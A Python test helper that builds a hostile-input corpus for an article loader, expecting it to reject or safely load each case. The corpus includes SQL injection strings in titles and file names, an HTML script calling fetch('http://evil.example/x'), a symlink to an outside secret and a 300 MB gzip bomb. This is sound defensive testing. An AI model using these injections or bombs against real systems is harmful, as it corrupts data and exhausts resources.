"""The hostile-input corpus: small files committed under tests/cases/bad/ plus cases that must be
made at test time (huge, sparse, symlinks, odd names, permissions, FIFOs, gzip bombs).

`write_static` regenerates the committed files (`python -m tests.badcorpus`); `build` lays the
whole corpus into a raw/ folder and returns what each path must become.
"""

from __future__ import annotations

import codecs
import gzip
import json
import os
import random
import shutil
from dataclasses import dataclass
from pathlib import Path

from tests.helpers import PARAGRAPH, article_text

BAD = Path(__file__).resolve().parent / "cases" / "bad"

CP1252_BODY = (
    "Le café était plein. « Où êtes-vous ? » demanda-t-il — personne ne répondit. "
    "Les élèves étudiaient près de la fenêtre, à côté du théâtre, et l’addition coûtait 12 €. "
)
LATIN1_BODY = (
    "Der Bürgermeister äußerte sich am Dienstag zur Lage der städtischen Bäder, die seit Jahren "
    "geschlossen sind; die Bürger müssen nun weiter auf eine Lösung für ihre Schwimmhalle warten. "
)
ARABIC = (
    "قال وزير المالية يوم الثلاثاء إن الحكومة ستزيد الإنفاق على المدارس والمستشفيات في العام المقبل، "
    "وأضاف أن الميزانية الجديدة تهدف إلى دعم الأسر ذات الدخل المحدود وتحسين الخدمات العامة في المدن والقرى. "
)
HEBREW = "ראש העירייה אמר ביום שלישי כי העירייה תשקיע בפארקים ובספריות בשנה הבאה. "


def _article(title: str, salt: str, date: str = "Tue, December 23, 2025 at 7:08 AM UTC") -> str:
    return article_text(title=title, salt=salt).replace("Tue, December 23, 2025 at 7:08 AM UTC", date)


def static_files() -> dict[str, bytes]:
    """Name -> bytes of every committed case. Deterministic."""
    rng = random.Random(7)
    noise = bytes(rng.randrange(256) for _ in range(4096)) + b"\x00" * 64
    utf8_article = _article("Caf\u00e9 Owners Say the Winter Was the Hardest Yet", "truncated").encode()
    truncated = utf8_article + "Final naïve note: ".encode() + "é".encode()[:1]  # cut mid-character
    mojibake_text = _article("The Café’s Owner Said the Naïve Résumé Was Fine", "mojibake")
    mixed = _article("Mixed Line Endings Do Not Confuse the Reader", "mixed").split("\n")
    mixed_bytes = "\r\n".join(mixed[:3]).encode() + b"\r" + "\n".join(mixed[3:6]).encode() + b"\r"
    mixed_bytes += "\r".join(mixed[6:]).encode()
    rtl_body = "\n".join(f"\u200f{ARABIC}\u200b{i}\u200d {HEBREW}\u2067\u2069\ufeff" for i in range(4))
    return {
        "empty.txt": b"",
        "whitespace-only.txt": b"  \n\t\r\n   \r\n\n \x0b\x0c ",
        "binary-noise.txt": noise,
        "truncated-utf8.txt": truncated,
        "utf16-bom.txt": codecs.BOM_UTF16_LE
        + _article("A Headline Saved as UTF-16 With a BOM", "utf16bom").encode("utf-16-le"),
        "utf16-no-bom.txt": _article("A Headline Saved as UTF-16 Without a BOM", "utf16").encode("utf-16-le"),
        "cp1252.txt": (
            "Les cafés de Paris ferment plus tôt cet hiver\nPar Claire Dubois\n\n" + CP1252_BODY * 6
        ).encode("cp1252"),
        "latin1.txt": (
            "Die Bäder der Stadt bleiben geschlossen\nVon Jürgen Müller\n\n" + LATIN1_BODY * 5
        ).encode("latin-1"),
        "mojibake.txt": mojibake_text.encode("utf-8").decode("cp1252", "replace").encode("utf-8"),
        "mixed-line-endings.txt": mixed_bytes,
        "title-10000-chars.txt": _article("Headline " * 1111 + "end", "longtitle").encode(),
        "date-future.txt": _article(
            "A Story Dated Far in the Future", "future", "December 23, 2099"
        ).encode(),
        "date-before-1990.txt": _article("A Story Dated Before 1990", "old", "March 3, 1971").encode(),
        "date-feb-30.txt": _article(
            "A Story Dated on an Impossible Day", "feb30", "February 30, 2024"
        ).encode(),
        "date-unknown-zone.txt": _article(
            "A Story Dated in an Unknown Time Zone", "zone", "December 23, 2025 at 7:08 AM XYZT"
        ).encode(),
        "rtl-zero-width.txt": ("الحكومة تزيد الإنفاق على المدارس\n\n" + rtl_body + "\n").encode(),
        "sql-in-content.txt": article_text(
            title='Robert\'); DROP TABLE articles;-- and "quotes" ; DELETE FROM sources',
            author="O'Brien",
            salt="'; DROP TABLE sources; -- \\\" UNION SELECT * FROM runs; $$ $1 ?",
        ).encode(),
        "malformed.html": (
            "<html><head><title>Unclosed <b>tags everywhere</title><body><p>"
            + "<div><p>".join(f"{PARAGRAPH} html {i}" for i in range(5))
            + "<table><tr><td>broken</p></span></html"
        ).encode(),
        "script-style-only.html": (
            b"<html><head><style>body{color:red}</style><script>fetch('http://evil.example/x');"
            b"document.write('pwned')</script></head><body><script>while(true){}</script></body></html>"
        ),
        "invalid.json": b'{"title": "Unterminated", "body": "missing the end',
        "one-broken-line.jsonl": (
            json.dumps({"title": "First Good Record in the File", "text": PARAGRAPH * 3 + " one"}).encode()
            + b"\n{broken json line\n"
            + json.dumps(
                {"title": "Third Good Record in the File", "text": PARAGRAPH * 3 + " three"}
            ).encode()
            + b"\n"
        ),
    }


def write_static(folder: Path = BAD) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in static_files().items():
        (folder / name).write_bytes(data)


@dataclass(frozen=True)
class Expect:
    """What a path (or "path#record" for record > 0) must become: 'loaded', or rejected with
    exactly these checks."""

    status: str
    checks: tuple[str, ...] = ()


LOADED = Expect("loaded")
ABSENT = Expect("absent")  # no such record


def rejected(*checks: str) -> Expect:
    return Expect("rejected", tuple(sorted(checks)))


WEIRD_NAME = 'quote\'s "double" ; semi; DROP TABLE articles;-- spaces 日本語 عربي.txt'
NEWLINE_NAME = "line\nbreak.txt"
SQL_NAME = "x'); DELETE FROM articles; --.txt"


def build(raw: Path, scratch: Path) -> dict[str, Expect]:
    """Lay the corpus into raw/ (scratch holds things that must live outside raw/)."""
    for path in sorted(BAD.iterdir()):
        if path.is_file() and not path.name.endswith((".md", ".py")):
            shutil.copy(path, raw / path.name)
    # 200 MB, sparse: refused from its size without being read.
    with open(raw / "huge-200mb.txt", "wb") as fh:
        fh.truncate(200 * 1024 * 1024)
    # One 5 MB line of prose: cut into pieces, loaded.
    (raw / "one-5mb-line.txt").write_text(
        "A Single Enormous Line Follows\n" + " ".join(f"{PARAGRAPH} n{i}." for i in range(20_000))[:5_000_000]
    )
    (raw / WEIRD_NAME).write_text(_article("A File Whose Name Is Full of Punctuation", "weird"))
    (raw / NEWLINE_NAME).write_text(_article("A File Whose Name Holds a Newline", "newline"))
    (raw / SQL_NAME).write_text(_article("A File Whose Name Is an SQL Injection", "sqlname"))
    outside = scratch / "outside-secret.txt"
    outside.write_text(_article("A Secret Outside raw Must Never Be Read", "secret"))
    (raw / "link-outside.txt").symlink_to(outside)
    (raw / "folder.txt").mkdir()
    (raw / "folder.txt" / "inner.txt").write_text(
        _article("A File Inside a Folder Named Like a File", "inner")
    )
    (raw / "empty-folder.txt").mkdir()
    os.mkfifo(raw / "pipe.txt")
    locked = raw / "no-permission.txt"
    locked.write_text(_article("A File Nobody May Read", "locked"))
    locked.chmod(0)
    # gzip bomb: 300 MB of zeros squeezed into about 300 kB.
    with gzip.open(raw / "bomb.txt.gz", "wb", compresslevel=1) as gz:
        block = b"\0" * (1 << 20)
        for _ in range(300):
            gz.write(block)
    (raw / "good-1.txt").write_text(article_text(salt="good one"))
    (raw / "good-2.txt").write_text(article_text(title="Another Ordinary Headline", salt="good two"))
    (raw / "sub").mkdir()
    (raw / "sub" / "good-3.txt").write_text(article_text(title="A Third Headline", salt="good three"))

    expect = {
        "empty.txt": rejected("empty"),
        "whitespace-only.txt": rejected("empty"),
        "binary-noise.txt": rejected("binary"),
        "truncated-utf8.txt": LOADED,
        "utf16-bom.txt": LOADED,
        "utf16-no-bom.txt": LOADED,
        "cp1252.txt": LOADED,
        "latin1.txt": LOADED,
        "mojibake.txt": LOADED,
        "mixed-line-endings.txt": LOADED,
        "title-10000-chars.txt": LOADED,
        "date-future.txt": rejected("published_at.not_in_future"),
        "date-before-1990.txt": rejected("published_at.greater_than_or_equal_to"),
        "date-feb-30.txt": LOADED,
        "date-unknown-zone.txt": LOADED,
        "rtl-zero-width.txt": LOADED,
        "sql-in-content.txt": LOADED,
        "huge-200mb.txt": rejected("too_large"),
        "one-5mb-line.txt": LOADED,
        WEIRD_NAME: LOADED,
        NEWLINE_NAME: LOADED,
        SQL_NAME: LOADED,
        "link-outside.txt": rejected("symlink"),
        "folder.txt/inner.txt": LOADED,
        "pipe.txt": rejected("not_a_file"),
        "no-permission.txt": LOADED if _readable(locked) else rejected("permission_denied"),
        "good-1.txt": LOADED,
        "good-2.txt": LOADED,
        "sub/good-3.txt": LOADED,
    }
    expect.update(format_expectations())
    return {key: want for key, want in expect.items() if want is not ABSENT}


def _readable(path: Path) -> bool:
    """chmod 000 stops nobody when the tests run as root: then the file is (correctly) loaded."""
    try:
        with open(path, "rb"):
            return True
    except PermissionError:
        return False


def format_expectations() -> dict[str, Expect]:
    """HTML, JSON and gzip cases, read by their own readers."""
    return {
        "malformed.html": LOADED,
        "script-style-only.html": rejected("no_main_text"),
        "invalid.json": rejected("bad_json"),
        "one-broken-line.jsonl": LOADED,
        "one-broken-line.jsonl#1": rejected("bad_json_line"),
        "one-broken-line.jsonl#2": LOADED,
        "bomb.txt.gz": rejected("decompressed_too_large"),
    }

if __name__ == "__main__":
    write_static()
    print(f"wrote {len(static_files())} files to {BAD}")
